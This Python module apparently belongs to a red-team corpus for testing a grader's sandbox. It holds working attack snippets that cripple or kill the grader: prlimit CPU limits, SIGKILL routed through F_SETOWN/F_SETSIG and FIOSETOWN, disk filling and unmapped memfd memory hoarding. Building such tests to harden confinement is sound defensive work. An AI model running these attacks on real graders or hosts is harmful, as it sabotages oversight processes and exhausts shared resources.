"""Round 2 (issue 20, items 1, 2, 7, 8): system calls the confinement did not filter.

A worker runs as the grader's user, so the kernel lets it change the grader's resource limits
(prlimit64: RLIMIT_CPU of 1 s killed the grader; on the fork server it caps every later worker),
point a file's signals at the grader's process group (fcntl F_SETOWN + F_SETSIG + O_ASYNC on a
pipe, ioctl FIOSETOWN on its own socket to the grader: Landlock scopes that signal only from ABI
6, on older kernels the grader's group died), fill the disk through scratch (only the per-file
RLIMIT_FSIZE applied), and hold memory no RSS shows (memfd files never mapped). Each attack uses
only the standard library (no ctypes), so the static gate lets it reach the kernel, and raises
PermissionError when everything it tried was refused, or reports what got through. The issue's
signal attacks kill the grader only under SOFTMAX_LANDLOCK_ABI=4 or 5; with a newer ABI they
still report the owner the filter let them set.
"""

from __future__ import annotations

PRLIMIT = """
targets = {'fork server': os.getppid()}
try:
    stat = open(f'/proc/{os.getppid()}/stat').read()
    targets['grader'] = int(stat.rsplit(')', 1)[1].split()[1])
except OSError:
    pass
done = {}
for who, pid in targets.items():
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        done[who] = 'RLIMIT_CPU 1 s'
    except OSError as err:
        if err.errno != 1:
            raise
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        done[who + ' nice'] = 19
    except OSError as err:
        if err.errno != 1:
            raise
    try:
        os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
        done[who + ' cpus'] = 1
    except OSError as err:
        if err.errno != 1:
            raise
got = done
if not done:
    raise PermissionError(1, 'resource limits, priority and CPUs of others refused')
"""

FSETOWN = """
pgid = os.getpgid(os.getppid())
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, -pgid)
fcntl.fcntl(r, 10, signal.SIGKILL)
fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
got = ('SIGKILL sent to the group of', pgid, os.write(w, b'x'))
"""

FIOSETOWN = """
pgid = os.getpgid(os.getppid())
owned = []
for fd in sorted(int(name) for name in os.listdir('/proc/self/fd')):
    try:
        fcntl.ioctl(fd, 0x8901, struct.pack('i', -pgid))
        fcntl.ioctl(fd, 0x5452, struct.pack('i', 1))
        owned.append(fd)
    except OSError as err:
        if err.errno not in (1, 9, 22, 25):
            raise
got = ('SIGIO owner set to the grader group on', owned)
if not owned:
    raise PermissionError(1, 'FIOSETOWN refused on every descriptor')
"""

FILL_SCRATCH = """
made, refused = [], []
for i in range(30):
    try:
        with open(f'filler{i}.bin', 'wb') as fh:
            for _ in range(60):
                fh.write(bytes(1024**2))
        made.append(f'filler{i}.bin: 60 MB')
    except OSError as err:
        refused.append(err.errno)
        break
for what, make in (('O_TMPFILE', lambda: os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600)),
                   ('folder', lambda: os.mkdir('more')), ('fifo', lambda: os.mkfifo('fifo')),
                   ('link', lambda: os.symlink('/dev/null', 'link'))):
    try:
        make()
        made.append(what)
    except OSError as err:
        refused.append(err.errno)
got = made
if not made:
    raise PermissionError(13, 'nothing may be created in scratch: ' + repr(refused))
"""

MEMFD = """
held = []
for _ in range(64):
    fd = os.memfd_create('hoard')
    os.write(fd, bytes(60 * 1024**2))
    held.append(fd)
got = ('held in memfd files, MB:', 60 * len(held))
"""


def add(corpus):
    """The kernel-layer attacks of the second red team."""
    corpus.attack("prlimit_grader", "kernel",
                  "prlimit64 RLIMIT_CPU 1 s, nice 19 and one CPU on the fork server and the grader",
                  "import os\nimport resource", PRLIMIT)  # fmt: skip
    corpus.attack("fsetown_grader_group", "signal",
                  "fcntl F_SETOWN(-grader group) + F_SETSIG(SIGKILL) + O_ASYNC on a pipe, then writes it",
                  "import fcntl\nimport os\nimport signal", FSETOWN)  # fmt: skip
    corpus.attack("fiosetown_grader_socket", "signal",
                  "ioctl FIOSETOWN(-grader group) + FIOASYNC on every descriptor (its socket to the grader)",
                  "import fcntl\nimport os\nimport struct", FIOSETOWN)  # fmt: skip
    corpus.attack("fill_scratch", "write",
                  "30 files of 60 MB in scratch, an O_TMPFILE file, a folder, a fifo and a link",
                  "import os", FILL_SCRATCH)  # fmt: skip
    corpus.attack("memfd_hoard", "memory",
                  "64 memfd files of 60 MB, never mapped (3.75 GiB outside RSS)", "import os", MEMFD)  # fmt: skip
